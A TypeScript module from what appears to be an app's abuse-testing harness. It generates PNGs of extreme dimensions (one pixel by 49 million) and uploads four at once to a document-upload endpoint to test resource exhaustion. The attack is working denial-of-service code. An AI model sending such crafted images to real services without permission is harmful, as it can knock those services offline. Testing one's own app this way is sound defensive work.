import { crc32, deflateSync } from "node:zlib";
import { type Attack, countStatuses, repeat } from "./attack.ts";
import type { Stage } from "./stage.ts";

/** A little under the 50 megapixels that a picture may have. */
const longSidePx = 49_000_000;

let files: Buffer<ArrayBuffer>[] = [];

async function send({ browser, attacker }: Stage, turn: number, signal?: AbortSignal): Promise<number> {
  const form = new FormData();
  form.set("kind", "insurance");
  form.set("vehicleId", String(attacker.vehicleId));
  form.set("file", new Blob([files[turn % files.length] ?? ""]), "paper.png");
  const answer = await browser.fetch("/api/documents", { method: "POST", body: form, ...(signal && { signal }) });
  await answer.arrayBuffer();
  return answer.status;
}

export const pictures: Attack = {
  name: "pictures",
  what: "pictures of one pixel by 49 million, four at once",
  async prepare(stage) {
    files = [makePng(longSidePx, 1), makePng(1, longSidePx)];
    await send(stage, 0);
  },
  async run(stage, signal) {
    const statuses: number[] = [];
    await repeat(signal, 4, async (turn) => {
      statuses.push(await send(stage, turn, signal));
    });
    return [`answers ${countStatuses(statuses)}`];
  },
};

/** A black picture of one bit a pixel. */
function makePng(width: number, height: number): Buffer<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const rows = Buffer.alloc((1 + Math.ceil(width / 8)) * height);
  const signature = Buffer.from("\x89PNG\r\n\x1a\n", "latin1");
  return Buffer.concat([signature, toChunk("IHDR", header), toChunk("IDAT", deflateSync(rows)), toChunk("IEND", Buffer.alloc(0))]);
}

function toChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  checksum.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, checksum]);
}
